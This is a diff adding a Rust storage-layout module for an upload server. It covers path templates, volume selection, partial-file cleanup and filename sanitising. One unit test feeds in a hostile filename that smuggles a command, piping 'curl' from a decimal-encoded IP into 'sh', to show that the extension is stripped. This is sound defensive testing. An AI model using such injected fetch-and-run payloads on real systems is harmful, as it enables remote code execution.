@@ -0,0 +1,285 @@
+//! # Storage Layout
+//!
+//! Uploaded files are stored under the upload directory in a subdirectory
+//! built from a template, so operators can pick a layout that keeps
+//! directories small and suits their backups, e.g. one directory per month.
+//! The directory is rendered once when a file arrives and recorded with the
+//! upload (`file_uploads.storage_dir`), so changing the template only
+//! affects new uploads.
+//!
+//! ## Placeholders
+//! - `{year}`, `{month}`, `{day}`: Upload date (UTC)
+//! - `{link}`: ID of the upload link
+//! - `{guest}`: The guest's folder, shared by their files on a link (see [`crate::ingest`])
+//! - `{uuid}`: A new random ID for every file
+//!
+//! ## Volumes
+//! New files can be spread across several storage roots, e.g. one per disk.
+//! Each upload records the volume it was written to, so volumes can be
+//! added to the list later and files on removed volumes stay reachable as
+//! long as the disk is mounted. Uploads stored before volumes existed live
+//! in the upload directory.
+//!
+//! ## Configuration
+//! - `STORAGE_PATH_TEMPLATE`: Directory template, e.g. `{year}/{month}/{link}/{guest}`
+//!   (default: `{guest}`, one folder per guest directly in the upload directory)
+//! - `STORAGE_VOLUMES`: Comma-separated storage roots for new files (default: the upload directory)
+//! - `STORAGE_PLACEMENT`: `most-free-space` (default) or `round-robin`
+
+use chrono::{Datelike, Utc};
+use std::{
+    collections::HashSet,
+    path::{Path, PathBuf},
+    sync::{
+        atomic::{AtomicUsize, Ordering},
+        Mutex,
+    },
+};
+use tokio::fs;
+use tracing::warn;
+use uuid::Uuid;
+
+use crate::{config::Config, database::get_volume_upload_totals, models::VolumeUsage, AppState};
+
+lazy_static::lazy_static! {
+    /// Position of the next volume for round-robin placement
+    static ref NEXT_VOLUME: AtomicUsize = AtomicUsize::new(0);
+
+    /// Partial files this process is writing right now
+    static ref IN_FLIGHT_PARTIALS: Mutex<HashSet<PathBuf>> = Mutex::new(HashSet::new());
+}
+
+/// Placeholders a storage path template may use
+const PLACEHOLDERS: [&str; 6] = ["year", "month", "day", "link", "guest", "uuid"];
+
+/// Whether a template only uses known placeholders and stays inside its volume
+pub fn is_valid_template(template: &str) -> bool {
+    let known_placeholders = template.split('{').skip(1).all(|rest| {
+        rest.split_once('}')
+            .is_some_and(|(name, _)| PLACEHOLDERS.contains(&name))
+    });
+    let safe_segments = template
+        .split('/')
+        .all(|segment| !segment.is_empty() && segment != "." && segment != "..");
+
+    known_placeholders && safe_segments && !template.contains('\\')
+}
+
+/// Directory (relative to its volume) a new file is stored in
+pub fn storage_dir(config: &Config, link_id: &str, guest_folder: &str) -> String {
+    let now = Utc::now();
+
+    config
+        .storage_path_template
+        .replace("{year}", &format!("{:04}", now.year()))
+        .replace("{month}", &format!("{:02}", now.month()))
+        .replace("{day}", &format!("{:02}", now.day()))
+        .replace("{link}", link_id)
+        .replace("{guest}", guest_folder)
+        .replace("{uuid}", &Uuid::new_v4().to_string())
+}
+
+/// Longest extension a stored file keeps from its original name
+const MAX_STORED_EXTENSION_LEN: usize = 16;
+
+/// Name a new file is stored under: a random UUID plus the original extension
+///
+/// The extension is only kept if it is 1 to 16 ASCII letters and digits, so
+/// a stored name never holds quotes, separators or control characters from
+/// the guest's filename that could break the commands run on stored files
+/// (replication, post-upload commands). The original name stays in the
+/// database.
+pub fn stored_filename(original_filename: &str) -> String {
+    let extension = Path::new(original_filename)
+        .extension()
+        .and_then(|ext| ext.to_str())
+        .filter(|ext| {
+            (1..=MAX_STORED_EXTENSION_LEN).contains(&ext.len())
+                && ext.chars().all(|c| c.is_ascii_alphanumeric())
+        });
+
+    match extension {
+        Some(extension) => format!("{}.{}", Uuid::new_v4(), extension),
+        None => Uuid::new_v4().to_string(),
+    }
+}
+
+/// Where a file is written while it arrives
+///
+/// The file only gets its final name once it is complete, so backup and
+/// sync tools watching the storage directories never pick up half a file.
+fn partial_path(file_path: &Path) -> PathBuf {
+    let mut path = file_path.as_os_str().to_owned();
+    path.push(".part");
+    PathBuf::from(path)
+}
+
+/// A partial file being written, tracked until the guard is dropped
+///
+/// If the process has to exit before the write finishes, the files still
+/// tracked are removed (see [`remove_in_flight_partials`]). Partial files of
+/// another process sharing the storage, such as the new one during a handoff,
+/// are left alone.
+pub struct PartialFile(PathBuf);
+
+impl PartialFile {
+    /// Track the partial file of `file_path`
+    pub fn new(file_path: &Path) -> Self {
+        let path = partial_path(file_path);
+        if let Ok(mut partials) = IN_FLIGHT_PARTIALS.lock() {
+            partials.insert(path.clone());
+        }
+        Self(path)
+    }
+
+    pub fn path(&self) -> &Path {
+        &self.0
+    }
+}
+
+impl AsRef<Path> for PartialFile {
+    fn as_ref(&self) -> &Path {
+        &self.0
+    }
+}
+
+impl Drop for PartialFile {
+    fn drop(&mut self) {
+        if let Ok(mut partials) = IN_FLIGHT_PARTIALS.lock() {
+            partials.remove(&self.0);
+        }
+    }
+}
+
+/// Delete the partial files still being written, before a forced exit
+pub fn remove_in_flight_partials() -> usize {
+    let Ok(partials) = IN_FLIGHT_PARTIALS.lock() else {
+        return 0;
+    };
+    partials
+        .iter()
+        .filter(|path| match std::fs::remove_file(path) {
+            Ok(()) => true,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => false,
+            Err(e) => {
+                warn!(path = %path.display(), error = %e, "Failed to remove partial file");
+                false
+            }
+        })
+        .count()
+}
+
+/// Remove a storage directory and its parents for as long as they are empty
+///
+/// Stops at the volume root itself, or at the first directory that still
+/// holds files of other uploads.
+pub async fn remove_empty_dirs(volume: &Path, storage_dir: &str) {
+    let mut dir = Some(Path::new(storage_dir));
+
+    while let Some(relative) = dir.filter(|path| !path.as_os_str().is_empty()) {
+        if fs::remove_dir(volume.join(relative)).await.is_err() {
+            break;
+        }
+        dir = relative.parent();
+    }
+}
+
+/// Directory holding the files admins uploaded to a share link
+///
+/// Lives outside the guest folders, so these files never show up as uploads.
+pub fn share_dir(upload_dir: &Path, share_id: &str) -> PathBuf {
+    upload_dir.join(".shares").join(share_id)
+}
+
+/// Storage roots new files may be written to
+pub fn volumes(state: &AppState) -> Vec<PathBuf> {
+    if state.config.storage_volumes.is_empty() {
+        vec![state.upload_dir.clone()]
+    } else {
+        state.config.storage_volumes.clone()
+    }
+}
+
+/// Pick the volume a new file is written to, following the placement policy
+pub fn choose_volume(state: &AppState) -> PathBuf {
+    let mut volumes = volumes(state);
+    if volumes.len() == 1 {
+        return volumes.remove(0);
+    }
+
+    if state.config.storage_placement == "round-robin" {
+        let next = NEXT_VOLUME.fetch_add(1, Ordering::Relaxed) % volumes.len();
+        return volumes.remove(next);
+    }
+
+    // Volumes whose free space can't be determined are only used as a last resort
+    let most_free = volumes
+        .iter()
+        .enumerate()
+        .max_by_key(|(_, volume)| disk_space(volume).map(|(free, _)| free))
+        .map(|(index, _)| index)
+        .unwrap_or(0);
+    volumes.remove(most_free)
+}
+
+/// Usage of every configured volume, plus volumes that only hold older files
+pub fn volume_usage(state: &AppState) -> Vec<VolumeUsage> {
+    let totals = get_volume_upload_totals(&state.db).unwrap_or_else(|e| {
+        warn!(error = %e, "Failed to load per-volume upload totals");
+        Vec::new()
+    });
+
+    let upload_dir = state.upload_dir.to_string_lossy().to_string();
+    let mut paths: Vec<String> = volumes(state)
+        .iter()
+        .map(|volume| volume.to_string_lossy().to_string())
+        .collect();
+    for (volume, _, _) in &totals {
+        let path = volume.clone().unwrap_or_else(|| upload_dir.clone());
+        if !paths.contains(&path) {
+            paths.push(path);
+        }
+    }
+
+    paths
+        .into_iter()
+        .map(|path| {
+            // Uploads without a recorded volume are in the upload directory
+            let (file_count, stored_bytes) = totals
+                .iter()
+                .filter(|(volume, _, _)| volume.as_deref().unwrap_or(&upload_dir) == path)
+                .fold((0, 0), |(count, bytes), (_, c, b)| (count + c, bytes + b));
+            let space = disk_space(Path::new(&path));
+
+            VolumeUsage {
+                file_count,
+                stored_bytes,
+                free_bytes: space.map(|(free, _)| free),
+                total_bytes: space.map(|(_, total)| total),
+                path,
+            }
+        })
+        .collect()
+}
+
+/// Free and total bytes of the file system a path is on
+fn disk_space(path: &Path) -> Option<(u64, u64)> {
+    let stats = rustix::fs::statvfs(path).ok()?;
+    let block_size = stats.f_frsize;
+    Some((stats.f_bavail * block_size, stats.f_blocks * block_size))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn stored_filenames_keep_only_plain_extensions() {
+        assert!(stored_filename("report.PDF").ends_with(".PDF"));
+        assert!(!stored_filename("archive").contains('.'));
+        assert!(!stored_filename("x.a\"\n!curl 3232235777|sh #").contains('.'));
+        assert!(!stored_filename("photo.jpg ").contains('.'));
+        assert!(!stored_filename("data.abcdefghijklmnopq").contains('.'));
+        assert!(!stored_filename("notes.tär").contains('.'));
+    }
+}